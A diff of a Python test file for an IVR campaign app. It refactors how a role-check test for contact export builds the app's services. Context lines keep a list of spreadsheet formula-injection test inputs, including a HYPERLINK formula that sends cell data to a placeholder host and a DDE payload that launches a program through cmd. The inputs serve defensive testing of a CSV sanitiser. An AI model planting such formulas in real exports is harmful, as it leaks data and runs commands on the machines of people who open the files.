@@ -13,9 +13,11 @@ from aiohttp.test_utils import TestClient, TestServer
 
 from ivr.core import csvsafe
 from ivr.reports import service as reports
+from ivr.api.access import AccessService
 from ivr.api.app import build_app
+from ivr.api.services import Services
+from ivr.campaigns.service import CampaignService
 from ivr.campaigns import contacts
-from ivr.app.config import from_mapping
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
@@ -82,9 +84,11 @@ async def test_contact_export_needs_a_supervisor() -> None:
 
     async def get(cid: str) -> None:
         return None                                   # no such campaign: 404 once past the role check
-    ctl = SimpleNamespace(cfg=from_mapping({}, env={}), store=SimpleNamespace(verify_token=verify),
-                          dialer=SimpleNamespace(get=get))
-    async with TestClient(TestServer(build_app(ctl))) as client:  # type: ignore[arg-type]
+    store: Any = SimpleNamespace(verify_token=verify)
+    dialer: Any = SimpleNamespace(get=get)
+    services = Services(access=AccessService(store, store, fail_limit=10, fail_window=60),
+                        campaigns=CampaignService(dialer, store, (), ("en",)))
+    async with TestClient(TestServer(build_app(services))) as client:
         async with client.get("/api/v1/campaigns/c1/export", headers={"Authorization": "Bearer viewer"}) as resp:
             assert resp.status == 403 and "needs the supervisor role" in (await resp.json())["error"]
         async with client.get("/api/v1/campaigns/c1/export", headers={"Authorization": "Bearer supervisor"}) as resp:
